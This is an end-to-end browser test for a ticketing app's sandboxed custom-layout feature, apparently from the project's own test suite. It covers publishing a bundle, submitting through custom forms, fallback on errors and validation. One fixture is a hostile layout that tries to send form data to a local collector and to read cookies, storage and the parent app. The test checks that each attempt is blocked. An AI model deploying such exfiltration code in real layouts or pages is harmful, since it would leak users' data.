// Custom layouts in the browser, through the gateway that serves the built SPA:
//
//   TF_BASE_URL=http://127.0.0.1:8000 node e2e/layouts.mjs
//
// Pages come from the gateway with its Content-Security-Policy (checked below), so the sandboxed
// layout frames are shown to work under the policy the app is really served with. A company publishes a bundle whose
// ticket type and FORM task have custom layouts; a requester submits through one; a worker edits
// and completes the task through another (an invalid value is refused first); a layout that
// throws gives way to the standard view with a notice; a hostile layout tries to reach the
// network, cookies, storage and the app, and each attempt fails without anything leaving.
import { mkdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

import { launchBrowser } from './browser.mjs';
import { flowKit } from './helpers.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const BASE_URL = process.env.TF_BASE_URL;
const SHOTS = resolve(process.env.TF_SCREENSHOTS ?? join(here, '..', '..', 'artifacts', 'screenshots'));
if (!BASE_URL) {
  console.error('Set TF_BASE_URL (the gateway).');
  process.exit(2);
}
mkdirSync(SHOTS, { recursive: true });

const kit = flowKit(BASE_URL, SHOTS);
const { email, counter, step, shot, expectVisible, reloadUntil, pages, newPage, signUp, signIn, createUser } = kit;

// A stand-in for somewhere a hostile layout would send data: it must receive nothing.
const leaks = [];
const collector = createServer((request, response) => {
  leaks.push(`${request.method} ${request.url}`);
  response.writeHead(200, { 'access-control-allow-origin': '*' });
  response.end('ok');
});
await new Promise((done) => collector.listen(0, '127.0.0.1', done));
const COLLECTOR = `http://127.0.0.1:${collector.address().port}`;

function indent(text, spaces) {
  return text
    .split('\n')
    .map((line) => (line ? ' '.repeat(spaces) + line : line))
    .join('\n');
}

const TICKET_EDIT = `import { Field, Section } from '@ticketflower/layout';

export default function Request() {
  return (
    <Section title="Who is asking" description="Custom ticket form">
      <Field name="requester" label="Your name" />
      <Field name="priority" widget="radio" />
    </Section>
  );
}
`;

const TASK_EDIT = `import { Field, Section, StatusBadge, Value, useLayout } from '@ticketflower/layout';

export default function Check() {
  const { value, setValue } = useLayout();
  return (
    <>
      <Section title="Request" columns={2}>
        <Value name="requester" />
        <Value name="priority" format={(p) => <StatusBadge status={String(p)} />} />
      </Section>
      <Section title="Your check">
        <Field name="laptop" />
        <Field name="count" label="How many" />
        <p className="tf-hint" data-testid="echo">Chosen: {String(value.laptop ?? 'nothing')}</p>
        <button type="button" onClick={() => setValue('laptop', 'gold-plated')}>Choose an unlisted laptop</button>
      </Section>
    </>
  );
}
`;

const THROWS = `export default function Broken(): JSX.Element {
  throw new Error('boom from the layout');
}
`;

// Each attempt is written into the frame's own page, where the test reads it.
const HOSTILE = `import { useEffect, useState } from 'react';

const COLLECTOR = ${JSON.stringify(COLLECTOR)};

async function attempt(name: string, run: () => unknown): Promise<string> {
  try {
    const result = await run();
    return name + ': ALLOWED ' + String(result).slice(0, 80);
  } catch (error) {
    return name + ': blocked (' + String((error as Error).name || error) + ')';
  }
}

export default function Hostile({ value }: { value: Record<string, unknown> }) {
  const [lines, setLines] = useState<string[]>([]);
  useEffect(() => {
    const leak = COLLECTOR + '/leak?data=' + encodeURIComponent(JSON.stringify(value));
    const img = new Image();
    img.src = COLLECTOR + '/img';
    document.body.appendChild(img);
    Promise.all([
      attempt('fetch', () => fetch(leak).then((r) => r.status)),
      attempt('fetch-app', () => fetch('/api/identity/me').then((r) => r.status)),
      attempt('xhr', () => new Promise((ok, fail) => {
        const x = new XMLHttpRequest();
        x.onload = () => ok(x.status);
        x.onerror = () => fail(new TypeError('xhr failed'));
        x.open('GET', leak);
        x.send();
      })),
      attempt('websocket', () => new Promise((ok, fail) => {
        const socket = new WebSocket(COLLECTOR.replace('http', 'ws'));
        socket.onopen = () => ok('open');
        socket.onerror = () => fail(new TypeError('socket failed'));
      })),
      attempt('cookie', () => document.cookie),
      attempt('localStorage', () => { localStorage.setItem('x', '1'); return localStorage.length; }),
      attempt('top.location', () => { window.top!.location.href = COLLECTOR + '/top'; return 'navigated'; }),
      attempt('top.location.read', () => window.top!.location.href),
      attempt('parent.document', () => window.parent.document.body.innerHTML.length),
      attempt('parent.storage', () => window.parent.localStorage.length),
      attempt('parent.fetch', () => (window.parent as Window).fetch('/api/identity/me').then((r) => r.status)),
      attempt('open', () => { const w = window.open(COLLECTOR + '/popup'); if (!w) throw new Error('no window'); return 'opened'; }),
    ]).then(setLines);
  }, []);
  return <ul data-testid="attempts">{lines.map((line) => <li key={line}>{line}</li>)}</ul>;
}
`;

const BUNDLE = `workflow:
  key: layout_check
  name: Layout check
  start_task: check
  tasks:
    - key: check
      name: Check request
      task_type: FORM
      output_schema:
        type: object
        properties:
          laptop: { type: string, title: Laptop, enum: [standard, developer] }
          count: { type: integer, title: Count, minimum: 1 }
        required: [laptop, count]
      edit_layout:
        language: tsx
        source: |
${indent(TASK_EDIT, 10)}
      display_layout:
        language: tsx
        source: |
${indent(THROWS, 10)}
ticket_types:
  - key: layout_check
    name: Layout check
    prefix: LC
    fields:
      type: object
      properties:
        requester: { type: string, title: Requester, minLength: 1 }
        priority: { type: string, title: Priority, enum: [low, high] }
      required: [requester, priority]
    company_role_access: [user]
    edit_layout:
      language: tsx
      source: |
${indent(TICKET_EDIT, 8)}
    display_layout:
      language: tsx
      source: |
${indent(HOSTILE, 8)}
`;

const browser = await launchBrowser();
try {
  const admin = await newPage(browser);
  await step('a designer publishes a bundle with custom layouts', async () => {
    const page = await admin.goto(`${BASE_URL}/signup`);
    const policy = (await page?.allHeaders())?.['content-security-policy'] ?? '';
    console.log(`   page policy: ${policy || '(none)'}`);
    if (!/script-src [^;]*'self'/.test(policy)) {
      throw new Error(`the app is served without a script-src policy: ${policy}`);
    }
    await signUp(admin, `Layout Co ${kit.suffix}`, email('admin'));
    await admin.goto(`${BASE_URL}/definitions/upload`);
    await admin.getByLabel('Bundle (YAML or JSON)').fill(BUNDLE);
    await admin.getByRole('button', { name: 'Publish' }).click();
    await expectVisible(admin.getByText('Published layout_check version 1.'));
  });

  const workerEmail = email('worker');
  const requesterEmail = email('requester');
  await step('the admin adds a task worker and a requester', async () => {
    await createUser(admin, workerEmail, 'Wendy', 'Task worker');
    await createUser(admin, requesterEmail, 'Rita', null);
  });

  const requester = await newPage(browser);
  let ticketUrl = '';
  await step('a requester submits the ticket through its custom edit layout', async () => {
    await signIn(requester, requesterEmail);
    await requester.goto(`${BASE_URL}/tickets/new`);
    await reloadUntil(requester, requester.getByLabel('Title'), 'the ticket form');
    const form = requester.frameLocator('iframe[title="Layout check form"]');
    await expectVisible(form.getByText('Custom ticket form'));
    await requester.getByLabel('Title').fill('Check my layout');
    await form.getByLabel(/^Your name/).fill('Rita');
    await form.getByLabel('High', { exact: true }).check();
    await shot(requester, 'layouts-01-ticket-form');
    await requester.getByRole('button', { name: 'Submit ticket' }).click();
    await requester.waitForURL(/\/tickets\/[0-9a-f-]{36}$/);
    ticketUrl = requester.url();
  });

  await step('a hostile display layout gets nothing: no network, cookie, storage, or app', async () => {
    const storageBefore = await requester.evaluate(() => JSON.stringify(localStorage));
    const frame = requester.frameLocator('iframe[title^="LC-"]');
    const attempts = frame.getByTestId('attempts').locator('li');
    await expectVisible(attempts);
    await requester.waitForTimeout(1500);
    const lines = await attempts.allInnerTexts();
    const names = [
      'fetch',
      'fetch-app',
      'xhr',
      'websocket',
      'cookie',
      'localStorage',
      'top.location',
      'top.location.read',
      'parent.document',
      'parent.storage',
      'parent.fetch',
      'open',
    ];
    for (const name of names) {
      const line = lines.find((l) => l.startsWith(`${name}: `));
      if (!line) throw new Error(`no result for ${name}: ${JSON.stringify(lines)}`);
      if (!line.startsWith(`${name}: blocked`)) throw new Error(`hostile layout was allowed: ${line}`);
    }
    console.log(`   attempts: ${lines.join(' | ')}`);
    if (leaks.length > 0) throw new Error(`data left the frame: ${leaks.join(', ')}`);
    if (requester.url() !== ticketUrl) throw new Error(`the app was navigated to ${requester.url()}`);
    if ((await requester.evaluate(() => JSON.stringify(localStorage))) !== storageBefore) {
      throw new Error('the app’s storage changed');
    }
    await expectVisible(requester.getByRole('heading', { level: 1, name: /^LC-\d+ · Check my layout$/ }));
    const frames = requester.frames().filter((f) => f !== requester.mainFrame());
    if (frames.length !== 1 || frames[0].url() !== 'about:srcdoc') {
      throw new Error(`unexpected frames: ${frames.map((f) => f.url()).join(', ')}`);
    }
    const sandbox = await requester.locator('iframe[title^="LC-"]').getAttribute('sandbox');
    if (sandbox !== 'allow-scripts') throw new Error(`frame sandbox is ${sandbox}`);
    await shot(requester, 'layouts-02-hostile-layout');
  });

  const worker = await newPage(browser);
  await step('a layout that throws falls back to the standard view with a notice', async () => {
    await signIn(worker, workerEmail);
    await worker.goto(`${BASE_URL}/tasks/mine`);
    await reloadUntil(worker, worker.getByRole('link', { name: 'Check request' }), 'the check task');
    await worker.getByRole('link', { name: 'Check request' }).first().click();
    await expectVisible(worker.getByText('The custom layout of this view failed, so the standard view is shown.'));
    await worker.getByText('What went wrong').click();
    await expectVisible(worker.getByText(/boom from the layout/));
    // The standard view shows the input data instead.
    await expectVisible(worker.getByText('Rita', { exact: true }));
  });

  await step('an invalid value from a custom edit layout is refused', async () => {
    const form = worker.frameLocator('iframe[title="Check request form"]');
    await expectVisible(form.getByRole('heading', { name: 'Your check' }));
    await form.getByRole('button', { name: 'Choose an unlisted laptop' }).click();
    await expectVisible(form.getByText('Chosen: gold-plated'));
    await form.getByLabel(/^How many/).fill('0');
    let completions = 0;
    worker.on('request', (request) => {
      if (request.method() === 'POST' && /\/api\/engine\/tasks\/[^/]+\/complete$/.test(request.url())) completions += 1;
    });
    await worker.getByRole('button', { name: 'Complete task' }).click();
    const summary = worker.getByTestId('layout-errors');
    await expectVisible(summary);
    const text = await summary.innerText();
    if (!/laptop: .*allowed values/.test(text) || !/count: .*>= 1/.test(text)) {
      throw new Error(`unexpected problems: ${text}`);
    }
    await expectVisible(form.getByText(/must be equal to one of the allowed values/));
    await shot(worker, 'layouts-03-invalid-value');
    if (completions !== 0) throw new Error('an invalid value was sent to the server');
  });

  await step('a custom edit layout edits and submits a valid value', async () => {
    const form = worker.frameLocator('iframe[title="Check request form"]');
    await form.getByLabel(/^Laptop/).selectOption({ label: 'Developer' });
    await form.getByLabel(/^How many/).fill('2');
    await expectVisible(form.getByText('Chosen: developer'));
    await shot(worker, 'layouts-04-task-form');
    await worker.getByRole('button', { name: 'Complete task' }).click();
    await expectVisible(worker.getByRole('heading', { level: 2, name: 'Output' }));
    await expectVisible(worker.getByText('developer', { exact: true }));
    await shot(worker, 'layouts-05-task-completed');
  });

  await step('the bundle editor previews a layout with sample data and shows its errors', async () => {
    await admin.goto(`${BASE_URL}/definitions/upload`);
    await admin.getByLabel('Bundle (YAML or JSON)').fill(BUNDLE);
    const preview = admin.getByRole('region', { name: 'Layout preview' });
    await expectVisible(preview);
    await preview.getByLabel('Layout', { exact: true }).selectOption({ label: 'workflow.tasks[0].edit_layout (edit)' });
    const frame = admin.frameLocator('iframe[title="Layout preview"]');
    await expectVisible(frame.getByRole('heading', { name: 'Your check' }));
    await frame.getByLabel(/^Laptop/).selectOption({ label: 'Standard' });
    await expectVisible(preview.getByText(/"laptop": "standard"/));
    // A sandboxed frame is drawn by its own process: it shows in a picture of the viewport.
    await preview.scrollIntoViewIfNeeded();
    await admin.screenshot({ path: join(SHOTS, 'layouts-06-editor-preview.png') });
    await preview
      .getByLabel('Layout', { exact: true })
      .selectOption({ label: 'workflow.tasks[0].display_layout (display)' });
    await expectVisible(preview.getByText(/boom from the layout/));
    await admin
      .getByLabel('Bundle (YAML or JSON)')
      .fill(BUNDLE.replace('const { value, setValue } = useLayout();', 'const { value, setValue } = useLayout(;'));
    await preview.getByLabel('Layout', { exact: true }).selectOption({ label: 'workflow.tasks[0].edit_layout (edit)' });
    await expectVisible(preview.getByText(/^line 4, column \d+: /));
    if ((await preview.locator('[data-line="4"]').getAttribute('class')) !== 'bg-red-100') {
      throw new Error('the failing line is not marked in the source');
    }
    await preview.scrollIntoViewIfNeeded();
    await admin.screenshot({ path: join(SHOTS, 'layouts-07-editor-preview-error.png') });
  });

  console.log(`layout flows: ${counter.passed} passed, 0 failed`);
} catch (error) {
  console.error(`not ok - ${error instanceof Error ? error.stack : String(error)}`);
  console.log(`layout flows: ${counter.passed} passed, 1 failed`);
  process.exitCode = 1;
  for (const [index, page] of pages.entries()) {
    await page.screenshot({ path: join(SHOTS, `layouts-failure-${index}.png`), fullPage: true }).catch(() => undefined);
  }
} finally {
  await browser.close();
  collector.close();
}
